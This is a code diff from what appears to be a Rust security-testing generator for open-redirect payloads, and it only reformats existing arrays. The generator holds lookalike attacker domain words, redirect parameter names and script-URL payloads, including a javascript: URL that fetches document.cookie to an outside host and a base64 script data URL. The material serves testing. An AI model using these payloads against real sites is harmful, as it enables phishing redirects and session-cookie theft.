@@ -13,8 +13,24 @@ use crate::{Carrier, Family, Rng, Variant};
 pub struct Redirect;
 
 const PARAMS: &[&str] = &[
-    "next", "redirect", "redirect_uri", "redirectUrl", "returnTo", "return_url", "url", "continue", "dest", "destination", "goto",
-    "target", "callback", "r", "u", "rurl", "forward", "post_logout_redirect_uri",
+    "next",
+    "redirect",
+    "redirect_uri",
+    "redirectUrl",
+    "returnTo",
+    "return_url",
+    "url",
+    "continue",
+    "dest",
+    "destination",
+    "goto",
+    "target",
+    "callback",
+    "r",
+    "u",
+    "rurl",
+    "forward",
+    "post_logout_redirect_uri",
 ];
 const TLDS: &[&str] = &["com", "net", "io", "ru", "xyz", "top", "co", "org", "info", "site"];
 const WORDS: &[&str] = &["evil", "attacker", "phish", "login-secure", "acc0unts", "pwn", "cdn-x", "track", "paypa1", "examp1e"];
@@ -60,7 +76,13 @@ fn shape(rng: &mut Rng, host: &str) -> (String, &'static str) {
         7 => (format!("//{trusted}@{host}"), "userinfo-relative"),
         8 => (format!("{scheme}://{}:{}@{host}", trusted, rng.range(1, 9999)), "userinfo-port"),
         9 => {
-            let js = *rng.pick(&["javascript:alert(document.domain)", "javascript://%0aalert(1)", "java\tscript:alert(1)", "javascript:fetch('//x.io/'+document.cookie)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="]);
+            let js = *rng.pick(&[
+                "javascript:alert(document.domain)",
+                "javascript://%0aalert(1)",
+                "java\tscript:alert(1)",
+                "javascript:fetch('//x.io/'+document.cookie)",
+                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            ]);
             (js.to_string(), "script-url")
         }
         _ => (format!("／／{host}"), "fullwidth-slashes"),
@@ -97,7 +119,10 @@ impl Family for Redirect {
         };
         names.push(enc);
         let request = match rng.below(4) {
-            0 | 1 => Request::new("GET", &format!("/{}?{param}={wire}", rng.pick(&["login", "logout", "oauth/authorize", "sso/return", "account/switch"]))),
+            0 | 1 => Request::new(
+                "GET",
+                &format!("/{}?{param}={wire}", rng.pick(&["login", "logout", "oauth/authorize", "sso/return", "account/switch"])),
+            ),
             2 => Request::new("POST", "/login")
                 .header("Content-Type", "application/x-www-form-urlencoded")
                 .body(&format!("user=alex&pass=x&{param}={wire}")),
